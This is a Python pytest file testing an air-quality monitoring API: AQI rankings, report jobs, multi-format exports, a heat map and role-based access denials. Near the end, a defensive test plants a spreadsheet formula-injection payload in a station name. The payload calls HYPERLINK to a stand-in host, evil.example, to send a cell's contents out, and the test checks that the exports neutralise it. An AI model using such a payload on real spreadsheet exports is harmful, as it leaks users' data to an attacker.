"""Rankings, reports (jobs, preview, every export format) and the heat map, on hand-
computable official values — with permission and data-scope denials."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import date, timedelta
from typing import Any
from urllib.parse import quote, unquote

import pytest
from aiohttp.test_utils import TestClient

from aggregates.standards import default_registry

from .conftest import Seed

pytestmark = pytest.mark.usefixtures("analytics")


async def _get(client: TestClient, path: str, user: str, seed: Seed, status: int = 200) -> Any:
    resp = await client.get(path, headers=seed.auth(user))
    assert resp.status == status, await resp.text()
    return await resp.json()


def _ranks(view: dict[str, Any]) -> list[tuple[int | None, str, Any]]:
    return [(r["rank"], r["name"], r["value"]) for r in view["rows"]]


def _aqi(day: date, so2: float, no2: float, co: float, o3: float, pm10: float, pm25: float) -> int:
    """The daily AQI by the HJ 633 table in force on ``day`` (2012 or the 2026 revision)."""
    from aggregates.aqi import daily_aqi

    result = daily_aqi(
        {
            "SO2_24h": so2,
            "NO2_24h": no2,
            "CO_24h": co,
            "O3_1h_max": o3,
            "O3_8h_max": o3,
            "PM10_24h": pm10,
            "PM2.5_24h": pm25,
        },
        default_registry().aqi_table(day),
    )
    assert result.aqi is not None
    return result.aqi


async def test_daily_aqi_ranking_ties_and_scope(
    client: TestClient, seeded: Seed, analytics: date
) -> None:
    day = analytics.isoformat()
    good = _aqi(analytics, 10, 30, 0.8, 90, 50, 35)  # 50
    moderate = _aqi(analytics, 10, 30, 0.8, 90, 70, 75)  # 100 (2012), 114 (2026 revision)
    flagged = _aqi(analytics, 10, 30, 0.8, 90, 250, 45)  # 150
    view = await _get(client, f"/api/v1/rankings?by=aqi&period=day&day={day}", "admin", seeded)
    assert _ranks(view) == [
        (1, "东城一站", good),
        (1, "东城离线站", good),
        (3, "东城二站", moderate),
        (3, "西城一站", moderate),
        (5, "西城二站", flagged),
    ]  # ties share a rank; the disabled station is not ranked
    assert view["rows"][4]["detail"]["category"] == "轻度污染"
    assert view["rows"][4]["detail"]["primary"] == ["PM10"]
    assert view["start"] == day and view["columns"] == []
    # HJ 633—2026 is read from the official text: no "unverified" notice for the AQI table
    assert not any(n["kind"] == "aqi" for n in view["unverified"])
    # the standard is named from the table of the day; a ranking carries the "未核实" mark
    # of the composite-index/ranking rules in force (HJ 663—2026) while they are unverified
    assert view["standard_label"] == default_registry().aqi_table(analytics).code
    assert view["rows"][0]["detail"]["standard"] == view["standard_label"]
    aqci = default_registry().aqci(analytics)
    assert [n["code"] for n in view["unverified"]] == ([aqci.code] if aqci.unverified() else [])
    # data scope: the officer (R01) ranks within R01 only, the grid member may not rank
    officer = await _get(client, f"/api/v1/rankings?period=day&day={day}", "officer", seeded)
    assert _ranks(officer) == [
        (1, "东城一站", good),
        (1, "东城离线站", good),
        (3, "东城二站", moderate),
    ]
    denied = await _get(client, "/api/v1/rankings", "grid", seeded, status=403)
    assert denied["error"]["code"] == "forbidden"
    # regions: HJ 663 city averaging of the stations' concentrations, not the max AQI
    r01 = _aqi(analytics, 10, 30, 0.8, 90, 57, 48)  # PM10 56.7, PM2.5 48.3 → 67 (2012)
    r02 = _aqi(analytics, 10, 30, 0.8, 90, 160, 60)  # → 105 (2012), not the max 150
    regions = await _get(
        client, f"/api/v1/rankings?period=day&day={day}&scope=region", "admin", seeded
    )
    assert _ranks(regions) == [(1, "R01", r01), (2, "R02", r02)]
    mine = await _get(
        client, f"/api/v1/rankings?period=day&day={day}&scope=region", "officer", seeded
    )
    assert _ranks(mine) == [(1, "R01", r01)]
    grids = await _get(
        client, f"/api/v1/rankings?period=day&day={day}&scope=grid", "viewer", seeded
    )
    assert [(r["key"], r["value"]) for r in grids["rows"]] == [
        ("G01-1", good),
        ("G02-1", moderate),
    ]


async def test_periods_factor_and_bad_requests(
    client: TestClient, seeded: Seed, analytics: date
) -> None:
    day = analytics.isoformat()
    week = await _get(client, f"/api/v1/rankings?by=aqi&period=7d&day={day}", "viewer", seeded)
    assert len(week["columns"]) == 7 and week["columns"][-1]["key"] == day
    good = next(r for r in week["rows"] if r["name"] == "东城一站")
    assert good["value"] == 50 and good["series"] == [50] * 7 and good["detail"]["days"] == 7
    # 首要污染物 of the week: none on a week of AQI 50; otherwise the most frequent one
    assert good["detail"]["primary_note"] == "无（各日 AQI ≤ 50）"
    notes = {r["name"]: r["detail"]["primary_note"] for r in week["rows"] if r["valid"]}
    assert all(notes.values()) and any("天）" in n for n in notes.values()), notes
    months = await _get(client, f"/api/v1/rankings?by=aqci&period=3m&day={day}", "viewer", seeded)
    assert len(months["columns"]) == 3
    assert months["columns"][-1]["key"] == f"{analytics.year}-{analytics.month:02d}"
    assert all(len(r["series"]) == 3 for r in months["rows"])
    first = (analytics - timedelta(days=3)).isoformat()
    pm25 = await _get(
        client, f"/api/v1/rankings?by=a34004&period=custom&from={first}&to={day}", "viewer", seeded
    )
    assert _ranks(pm25)[:2] == [(1, "东城一站", 35), (1, "东城离线站", 35)]
    assert pm25["unit"] == "µg/m³" and pm25["by_label"]
    aqci = await _get(client, f"/api/v1/rankings?by=aqci&period=7d&day={day}", "viewer", seeded)
    assert aqci["rows"][0]["value"] is not None and aqci["rows"][0]["detail"]["max_index"]
    for bad in (
        "period=custom",
        f"period=custom&from={day}&to={first}",
        "period=custom&from=2020-01-01&to=2024-01-01",
        "by=zz99",
        "by=a;b",
        "scope=city",
        "day=2024-13-01",
    ):
        body = await _get(client, f"/api/v1/rankings?{bad}", "viewer", seeded, status=400)
        assert body["error"]["code"] == "bad_parameter", bad


def _filename(header: str) -> str:
    assert header.startswith("attachment;") and "filename*=UTF-8''" in header
    return unquote(header.split("filename*=UTF-8''", 1)[1])


async def test_ranking_export(client: TestClient, seeded: Seed, analytics: date) -> None:
    from openpyxl import load_workbook

    day = analytics.isoformat()
    resp = await client.get(
        f"/api/v1/rankings/export?by=aqi&period=7d&day={day}&format=xlsx",
        headers=seeded.auth("officer"),
    )
    assert resp.status == 200, await resp.text()
    assert resp.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert _filename(resp.headers["Content-Disposition"]).startswith("站点AQI排名_")
    book = load_workbook(io.BytesIO(await resp.read()))
    sheet = book.active
    assert sheet is not None
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    header = next(r for r in cells if r[0] == "排名")
    body = cells[cells.index(header) + 1 :]
    assert [(r[0], r[2], r[3]) for r in body[:3]] == [
        (1, "东城一站", 50),
        (1, "东城离线站", 50),
        (3, "东城二站", _aqi(analytics, 10, 30, 0.8, 90, 70, 75)),
    ]
    assert len(header) == 4 + 7 + 1  # rank, key, name, value, 7 days, note
    resp = await client.get(
        f"/api/v1/rankings/export?period=day&day={day}&format=csv", headers=seeded.auth("admin")
    )
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = (await resp.read()).decode("utf-8-sig")
    assert text.splitlines()[0].startswith("排名,编码,名称,AQI") and "西城二站" in text
    # the export names the standard and carries the "未核实" note of HJ 663—2026
    assert f"AQI（{default_registry().aqi_table(analytics).code}）" in text.splitlines()[0]
    aqci = default_registry().aqci(analytics)
    assert (f"{aqci.code}（综合指数）未核实" in text) == bool(aqci.unverified())
    # the viewer may look but not export
    await _get(client, "/api/v1/rankings/export", "viewer", seeded, status=403)


async def _run_report(client: TestClient, seed: Seed, user: str, body: dict[str, Any]) -> Any:
    resp = await client.post("/api/v1/reports", json=body, headers=seed.auth(user))
    assert resp.status == 202, await resp.text()
    job = await resp.json()
    assert job["status"] == "running" and len(job["id"]) == 32
    for _ in range(200):
        state = await _get(client, f"/api/v1/reports/{job['id']}", user, seed)
        assert 0 <= state["progress"] <= 1
        if state["status"] != "running":
            return state
        await asyncio.sleep(0.05)
    raise AssertionError("report did not finish")


MAGIC = {
    "xlsx": (b"PK", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "docx": (b"PK", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "pdf": (b"%PDF", "application/pdf"),
    "png": (b"\x89PNG", "image/png"),
    "jpg": (b"\xff\xd8", "image/jpeg"),
    "csv": (b"\xef\xbb\xbf", "text/csv; charset=utf-8"),
}


async def test_report_job_preview_and_every_export(
    client: TestClient, seeded: Seed, analytics: date
) -> None:
    day = analytics.isoformat()
    state = await _run_report(
        client,
        seeded,
        "officer",
        {"scope": "station", "key": "MNGOOD", "period": "day", "day": day},
    )
    assert state["status"] == "done" and state["progress"] == 1 and state["message"] == "完成"
    preview = state["preview"]
    assert preview["title"] == "东城一站环境空气质量日报"
    table = preview["tables"][0]
    pm25 = next(r for r in table["rows"] if r[0] == "PM2.5")
    assert pm25[2] == 35 and pm25[3] == 24  # daily mean, valid hours
    assert table["summary"][0][:3] == ["AQI", "", 50]
    # the day report shows no composite index: no "未核实" mark; the AQI names its table
    assert preview["unverified"] == [] and not any("*" in n for n in preview["notes"])
    code = default_registry().aqi_table(analytics).code
    assert f"AQI 按 {code} 计算" in " ".join(preview["notes"])
    assert preview["subtitle"].endswith(f"AQI：{code}")
    job = state["id"]
    for fmt, (magic, content_type) in MAGIC.items():
        resp = await client.get(
            f"/api/v1/reports/{job}/export?format={fmt}&chart=bar", headers=seeded.auth("officer")
        )
        assert resp.status == 200, (fmt, await resp.text())
        assert resp.headers["Content-Type"] == content_type, fmt
        name = _filename(resp.headers["Content-Disposition"])
        assert name.startswith("东城一站环境空气质量日报_") and name.endswith(f".{fmt}"), name
        assert 'filename="' in resp.headers["Content-Disposition"]  # ASCII fallback
        assert (await resp.read()).startswith(magic), fmt
    # the job belongs to its owner; exporting needs reports:export
    await _get(client, f"/api/v1/reports/{job}", "viewer", seeded, status=404)
    await _get(client, f"/api/v1/reports/{job}/export", "viewer", seeded, status=403)
    await _get(client, f"/api/v1/reports/{'0' * 32}", "officer", seeded, status=404)
    await _get(client, "/api/v1/reports/not-a-job", "officer", seeded, status=404)


async def test_area_reports_progress_and_scope(
    client: TestClient, seeded: Seed, analytics: date
) -> None:
    first = (analytics - timedelta(days=6)).isoformat()
    state = await _run_report(
        client,
        seeded,
        "viewer",
        {
            "scope": "region",
            "key": "R01",
            "period": "custom",
            "day": first,
            "end": analytics.isoformat(),
            "factors": ["a34004", "a34002"],
        },
    )
    assert state["status"] == "done"
    main = state["preview"]["tables"][0]
    assert [c["key"] for c in main["columns"]][:4] == ["mn", "name", "a34004", "a34002"]
    assert {r[1] for r in main["rows"]} == {"东城一站", "东城二站", "东城离线站"}
    assert state["preview"]["tables"][1]["wide"] is True  # the daily AQI matrix
    # the composite index of an unverified table (HJ 663—2026) carries the mark
    aqci = default_registry().aqci(analytics - timedelta(days=6))
    marks = state["preview"]["unverified"]
    assert [m["code"] for m in marks] == ([aqci.code] if aqci.unverified() else [])
    if marks:
        assert marks[0]["mark"] == "未核实" and "原文未获取" in marks[0]["reason"]
        assert "综合指数*" in [c["title"] for c in main["columns"]]
        assert any(n.startswith(f"* {aqci.code}") for n in state["preview"]["notes"])
    assert set(state["preview"]["charts"]) == {"line", "bar", "pie"}
    # the data scope: R02 is not the officer's (404); the city holds stations of both
    # districts (403); a station of R02 neither
    for body, status in (
        ({"scope": "region", "key": "R02", "period": "day"}, 404),
        ({"scope": "grid", "key": "C01", "period": "month"}, 403),
        ({"scope": "station", "key": "MNUNHEALTHY", "period": "day"}, 404),
        ({"scope": "grid", "key": "G01-1", "period": "week"}, 202),
    ):
        resp = await client.post("/api/v1/reports", json=body, headers=seeded.auth("officer"))
        assert resp.status == status, (body, await resp.text())
    for bad in (
        {"scope": "city", "key": "x", "period": "day"},
        {"scope": "region", "key": "R01", "period": "custom", "day": "2024-03-05"},
        {
            "scope": "region",
            "key": "R01",
            "period": "custom",
            "day": "2024-03-05",
            "end": "2024-03-01",
        },
        {"scope": "region", "key": "R01", "period": "day", "factors": ["zz99"]},
        {"scope": "region", "key": "R01", "period": "day", "day": "yesterday"},
        {
            "scope": "region",
            "key": "R01",
            "period": "custom",
            "day": "2020-01-01",
            "end": "2023-01-01",
        },
    ):
        resp = await client.post("/api/v1/reports", json=bad, headers=seeded.auth("officer"))
        assert resp.status == 400, (bad, await resp.text())
    resp = await client.post(
        "/api/v1/reports",
        json={"scope": "region", "key": "R01", "period": "day"},
        headers=seeded.auth("grid"),
    )
    assert resp.status == 403  # the grid member may not see reports


async def test_heat_map_layer(client: TestClient, seeded: Seed, analytics: date) -> None:
    day = analytics.isoformat()
    layer = await _get(client, f"/api/v1/map/heatmap?day={day}&cell=0.05", "viewer", seeded)
    assert layer["type"] == "FeatureCollection" and layer["features"]
    props = layer["properties"]
    assert props["stations"] == 5 and props["what"] == "aqi" and props["hourly"] is False
    assert props["standard"] == default_registry().aqi_table(analytics).code
    values = [f["properties"]["value"] for f in layer["features"]]
    assert min(values) >= 50 and max(values) <= 150
    assert all(f["properties"]["color"].startswith("#") for f in layer["features"])
    pm = await _get(client, f"/api/v1/map/heatmap?day={day}&what=a34004", "viewer", seeded)
    assert pm["properties"]["what"] == "a34004" and pm["features"]
    assert "standard" not in pm["properties"]  # a concentration: no AQI table
    # the officer's surface is made of R01's stations only
    mine = await _get(client, f"/api/v1/map/heatmap?day={day}&cell=0.05", "officer", seeded)
    assert mine["properties"]["stations"] == 3
    # no hourly data for the hour asked for: an empty surface, not an error (an hour
    # before the seeded days: the last complete hour is seeded between 00:00 and 01:00)
    empty_hour = quote(f"{(analytics - timedelta(days=30)).isoformat()}T10:00:00+08:00")
    now = await _get(client, f"/api/v1/map/heatmap?hour={empty_hour}", "viewer", seeded)
    assert now["features"] == [] and now["properties"]["hourly"] is True
    for bad in ("cell=0.0001", "cell=abc", f"day={day}&hour=2024-01-01T00:00:00%2B08:00"):
        await _get(client, f"/api/v1/map/heatmap?{bad}", "viewer", seeded, status=400)


async def test_heat_map_bins_many_stations(
    client: TestClient, seeded: Seed, analytics: date, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Above MAX_POINTS stations the values are averaged on a quarter-cell lattice first
    (IDW compares every cell with every point): the same surface for distant stations."""
    from web.map import heat

    day = analytics.isoformat()
    direct = await _get(client, f"/api/v1/map/heatmap?day={day}&cell=0.02", "viewer", seeded)
    monkeypatch.setattr(heat, "MAX_POINTS", 2)
    binned = await _get(client, f"/api/v1/map/heatmap?day={day}&cell=0.021", "viewer", seeded)
    assert binned["features"] and binned["properties"]["stations"] <= 5
    values = sorted(f["properties"]["value"] for f in binned["features"])
    reference = sorted(f["properties"]["value"] for f in direct["features"])
    assert abs(values[0] - reference[0]) < 15 and abs(values[-1] - reference[-1]) < 15


@pytest.mark.parametrize("path", ["/api/v1/rankings", "/api/v1/rankings/export"])
async def test_a_period_before_any_standard_is_bad_input(
    client: TestClient, seeded: Seed, path: str
) -> None:
    """Found by schemathesis: day=1994-02-28 (no AQI table in force yet) gave a 500."""
    body = await _get(client, f"{path}?by=aqi&period=day&day=1994-02-28", "admin", seeded, 400)
    assert body["error"]["code"] == "bad_parameter"
    assert "没有适用的评价标准" in body["error"]["message"]


#: A station name an attacker could type, and what a spreadsheet would do with it.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


async def test_exports_neutralise_spreadsheet_formulas(
    client: TestClient, seeded: Seed, analytics: date
) -> None:
    """Issue 16, finding 5: user-typed text that starts like a formula is exported as text
    (CSV: a leading apostrophe; XLSX: a text cell holding exactly what was typed)."""
    from openpyxl import load_workbook

    from store.db import connect

    conn = await connect(seeded.dsn)
    try:
        await conn.execute(
            "UPDATE stations SET name = $1 WHERE id = $2", FORMULA_NAME, seeded.stations["good"]
        )
    finally:
        await conn.close()
    day = analytics.isoformat()
    path = f"/api/v1/rankings/export?period=day&day={day}"
    resp = await client.get(path + "&format=csv", headers=seeded.auth("officer"))
    assert resp.status == 200, await resp.text()
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert names == ["'" + FORMULA_NAME]
    resp = await client.get(path + "&format=xlsx", headers=seeded.auth("officer"))
    book = load_workbook(io.BytesIO(await resp.read()))
    sheet = book.active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA_NAME]
    assert cells and all(c.data_type == "s" for c in cells)
